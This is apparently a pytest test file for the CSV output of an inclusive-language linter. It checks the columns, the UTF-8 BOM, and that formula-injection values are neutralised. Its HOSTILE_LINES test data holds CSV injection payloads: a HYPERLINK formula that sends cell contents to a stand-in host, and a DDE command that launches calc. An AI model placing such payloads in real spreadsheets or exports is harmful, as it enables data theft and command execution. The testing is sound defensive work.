"""--format csv: one row per finding, UTF-8 with a BOM, formula injection neutralised; read back
by LibreOffice Calc (headless conversion to .xlsx, then openpyxl)."""
import csv
import io

import pytest

from annex_support import convert

COLUMNS = ["path", "format", "location", "page", "part", "paragraph", "heading", "table", "row", "cell",
           "line", "column", "rule_id", "rule_name", "severity", "framework", "characteristics",
           "flagged_text", "sentence", "suggestion", "status", "reason", "fingerprint"]

HOSTILE_LINES = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"Click") each employee gives his or her next of kin.',
    "+1+cmd|' /C calc'!A0 when he arrives the chairman decides.",
    "-2+3 the patient and his wife sign here.",
    "@SUM(1,1) Each employee gives his or her details.",
]


def _lint_csv(cli, tmp_path, *extra):
    src = tmp_path / "tracker.txt"
    src.write_text("\n\n".join(HOSTILE_LINES) + "\n\nCaf\u00e9 staff \u2013 the chairman signs.\n", encoding="utf-8")
    out = tmp_path / "findings.csv"
    res = cli(src, "--no-config", "--no-cache", "--format", "csv", "-o", out, *extra)
    assert res.returncode == 1, res.stderr
    return out


def test_csv_has_a_bom_the_columns_and_one_row_per_finding(cli, tmp_path):
    out = _lint_csv(cli, tmp_path)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == COLUMNS
    json_res = cli(tmp_path / "tracker.txt", "--no-config", "--no-cache", "--format", "json")
    import json

    findings = json.loads(json_res.stdout)["files"][0]["findings"]
    assert len(rows) - 1 == len(findings) >= 6
    by_fp = {r[COLUMNS.index("fingerprint")]: dict(zip(COLUMNS, r)) for r in rows[1:]}
    for f in findings:
        row = by_fp[f["fingerprint"]]
        assert row["rule_id"] == f["rule_id"] and row["severity"] == f["severity"]
        assert row["line"] == str(f["location"]["line"]) and row["status"] == "open"
        assert row["location"].startswith(f"line {f['location']['line']}")
    assert any("Caf\u00e9 staff \u2013 the chairman signs." == r["sentence"] for r in by_fp.values())


def test_cells_that_would_be_formulas_are_neutralised(cli, tmp_path):
    from inclusive_lint.formatters.csvfile import safe_cell

    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\t=1", "plain", "a=b")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "plain", "a=b"]
    out = _lint_csv(cli, tmp_path)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    sentences = [r["sentence"] for r in rows]
    for line in HOSTILE_LINES:
        first_sentence_start = line[:6]
        hits = [s for s in sentences if s[1:].startswith(first_sentence_start)]
        assert hits and all(s.startswith("'") for s in hits), (line, sentences)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value


@pytest.mark.slow
def test_libreoffice_calc_reads_the_columns_and_runs_no_formula(cli, tmp_path):
    import openpyxl   # in the test extra

    out = _lint_csv(cli, tmp_path)
    res = convert(tmp_path, "xlsx", out, infilter="CSV:44,34,76,1")
    xlsx = tmp_path / "lo" / "findings.xlsx"
    assert xlsx.exists(), res.stdout + res.stderr
    sheet = openpyxl.load_workbook(xlsx).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == COLUMNS
    data_rows = values[1:]
    assert len(data_rows) >= 6
    types = {c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
    assert "f" not in types                   # nothing became a formula
    sentences = [str(r[COLUMNS.index("sentence")]) for r in data_rows]
    assert any(s.lstrip("'").startswith("=HYPERLINK(") for s in sentences)
    assert "Caf\u00e9 staff \u2013 the chairman signs." in sentences   # UTF-8 read as UTF-8
    rules = {r[COLUMNS.index("rule_id")] for r in data_rows}
    assert {"PRN-003", "ROL-001"} <= rules
